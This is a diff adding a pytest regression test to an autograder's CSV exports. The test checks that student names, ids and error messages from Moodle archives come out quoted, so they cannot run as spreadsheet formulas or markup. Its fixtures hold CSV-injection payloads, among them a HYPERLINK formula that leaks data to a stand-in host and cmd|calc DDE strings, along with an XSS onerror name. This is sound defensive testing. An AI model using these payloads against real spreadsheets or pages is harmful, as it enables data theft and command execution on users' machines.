@@ -1,11 +1,14 @@
 """Exports read from nbgrader's gradebook and our state files: the Moodle round trip (archive in,
-grading worksheet out), the grade and per-mistake CSVs, and Gradescope's results.json."""
+grading worksheet out), the grade and per-mistake CSVs, and Gradescope's results.json; and, red team
+(issue 21), no CSV cell that a spreadsheet would run as a formula from a student's name, id or message."""
 
 from __future__ import annotations
 
 import csv
 import json
+import re
 import shutil
+from pathlib import Path
 
 import pytest
 
@@ -14,7 +17,9 @@ from autograder.cli import main
 from autograder.collect import collect
 from autograder.config import PROJECT_ROOT, load_settings
 from autograder.exports import MOODLE_COLUMNS, gradescope_results
-from test_collect import RELEASE_NB, moodle_archive
+from test_collect import EXAMPLES, RELEASE_NB, moodle_archive
+
+FULL = EXAMPLES / "full_solution" / "pdp" / "pdp.ipynb"
 
 # Gradescope autograder specification ("Output format", results.json): the documented fields.
 GRADESCOPE_TOP = {"score", "execution_time", "output", "output_format", "test_output_format", "test_name_format",
@@ -123,3 +128,83 @@ def test_gradescope_validation_rejects_what_the_format_does_not_allow():
                    {**good, "score": good["score"] + 1}):
         with pytest.raises(AssertionError):
             validate_gradescope(broken)
+
+
+# --- CSV exports: no formula from a student's name, id or message (issue 21) --------------------------------------
+
+# (no "/" in a name: Moodle's folder names hold none, and it would split the archive's path)
+FORMULAS = ['=HYPERLINK("https:evil.example?leak="&A1,"Notizen")', "+cmd|' -c calc'!A0", "@SUM(1+1)*cmd|' -c calc'!A0",
+            "-2+3+cmd|' -c calc'!A0", "\t=1+1"]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _moodle_archive(path: Path) -> Path:
+    import zipfile
+
+    with zipfile.ZipFile(path, "w") as archive:
+        for number, name in enumerate(FORMULAS, start=2001):
+            archive.writestr(f"{name} Nachname_{number}_assignsubmission_file_/pdp.ipynb", FULL.read_bytes())
+            archive.writestr(f"Vorname {name}_{number + 100}_assignsubmission_file_/pdp.ipynb", FULL.read_bytes())
+        # formgrader prints names unescaped into its page (Moodle's own folder names never hold markup)
+        archive.writestr('Eve <img src=x onerror="alert(1)">_2999_assignsubmission_file_/pdp.ipynb', FULL.read_bytes())
+    return path
+
+
+def _cells(path: Path) -> list[str]:
+    with path.open(newline="", encoding="utf-8") as handle:
+        return [cell for row in csv.reader(handle) for cell in row]
+
+
+def test_no_csv_export_starts_a_cell_with_a_formula_from_a_student(tmp_path):
+    """Before: a student named ``=HYPERLINK(...)`` (or ``+cmd|...``, ``@SUM(...)``) came out as a formula in
+    grades.csv and the Moodle worksheet, an id or message in grades_checks.csv. Now every such cell is
+    quoted, and names from Moodle reach the gradebook without formula or markup characters at all."""
+    from nbgrader.api import Gradebook
+
+    from autograder.nbgrader_bridge import record_scores, register_assignment
+
+    layout = Layout(PROJECT_ROOT, tmp_path / "submitted", tmp_path / "out")
+    layout.output.mkdir()
+    register_assignment("pdp", PROJECT_ROOT / "source", layout.db_url)
+    report = collect("pdp", _moodle_archive(tmp_path / "moodle.zip"), layout.submissions, RELEASE_NB, layout.db_url)
+    collected = [placed[0] for placed in report.placed]
+    assert len(collected) == 2 * len(FORMULAS) + 1
+    with Gradebook(layout.db_url) as gradebook:
+        names = {s.id: (s.first_name, s.last_name) for s in gradebook.students}
+    assert not [name for pair in names.values() for name in pair if name.startswith(FORMULA_START)], names
+    assert ("Eve img src=x onerror=alert(1)" in [" ".join(pair) for pair in names.values()]
+            and not any(c in name for pair in names.values() for name in pair for c in '<>"&'))
+    # names as other tools put them into the gradebook (nbgrader db student add, a roster import), and an id
+    # from a folder of that name
+    students = collected + ["@SUM(1+1)"]
+    with Gradebook(layout.db_url) as gradebook:
+        for student, formula in zip(collected, FORMULAS + FORMULAS):
+            gradebook.update_or_create_student(student, first_name=formula, last_name=formula[::-1],
+                                               email=formula + "@example.org")
+    check = {"score": 0.0, "max_score": 2.0, "task": "test_pdp_1d", "message_key": "exception",
+             "message": "=cmd|' /C calc'!A0 (the error text of the student's function)"}
+    for student in students:
+        record_scores(layout.db_url, "pdp", "pdp", student, {"test_pdp_1d": 2.0})
+        state = layout.state_file(student, "pdp")
+        state.parent.mkdir(parents=True, exist_ok=True)
+        state.write_text(json.dumps({"report": {"pdp_1d.values": check}, "score": 0, "max_score": 2, "seconds": 1}))
+    with Gradebook(layout.db_url) as gradebook:  # a score that is negative is a number, not text
+        gradebook.find_grade("answer_lstat", "pdp", "pdp", "@SUM(1+1)").manual_score = -5.0
+        gradebook.db.commit()
+    grades = tmp_path / "grades.csv"
+    moodle = tmp_path / "moodle.csv"
+    assert main(["export", "--output", str(layout.output), "--csv", str(grades)]) == 0
+    assert main(["export", "pdp", "--output", str(layout.output), "--moodle", str(moodle)]) == 0
+    exported = {path.name: _cells(path) for path in (grades, tmp_path / "grades_checks.csv", moodle)}
+    for name, cells in exported.items():
+        bad = [cell for cell in cells if cell.startswith(FORMULA_START)
+               and not re.fullmatch(r"-\d+(\.\d+)?|-", cell)]  # (numbers; "-": Moodle's "no date", ours)
+        assert not bad, (name, bad)
+    assert "'@SUM(1+1)" in exported["grades.csv"] and "-3" in exported["grades.csv"]  # the id quoted, -3 a number
+    assert {f"'{formula}" for formula in FORMULAS} <= set(exported["grades.csv"])  # quoted, otherwise as given
+    assert "'=cmd|' /C calc'!A0 (the error text of the student's function)" in exported["grades_checks.csv"]
+    moodle_cells = set(exported["moodle.csv"])
+    assert f"'{FORMULAS[0]} {FORMULAS[0][::-1]}" in moodle_cells and f"'{FORMULAS[1]}@example.org" in moodle_cells
+    from autograder.exports import as_text  # (tab and CR first: collect shows them as "?"; other text may hold them)
+
+    assert [as_text(v) for v in ("\t=1+1", "\r=1+1", "Anna", None)] == ["'\t=1+1", "'\r=1+1", "Anna", ""]
